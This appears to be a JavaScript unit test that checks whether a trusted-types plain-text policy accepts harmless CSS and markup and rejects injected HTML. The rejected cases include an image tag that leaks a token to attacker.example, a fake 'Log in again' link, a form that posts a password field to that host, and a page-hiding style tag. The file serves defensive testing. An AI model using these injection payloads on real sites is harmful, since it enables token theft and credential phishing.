import { isPlainText } from './trusted-types';

it.each([
  ['.anticon { display: inline-flex }', true],
  ['.menu > li::after { content: "\\201C" }', true],
  ['', true],
  ['<div class="g2-tooltip"></div>', true],
  ['<div class="g2-tooltip"><img src="https://attacker.example/?token"></div>', false],
  ['<b>bold</b>', false],
  ['<a href="https://attacker.example">Log in again</a>', false],
  ['<form action="https://attacker.example"><input name="password"></form>', false],
  ['<style>*{display:none}</style>', false],
  ['< script >', false],
])('%s passes the default policy: %s', (text, passes) => {
  expect(isPlainText(text)).toBe(passes);
});
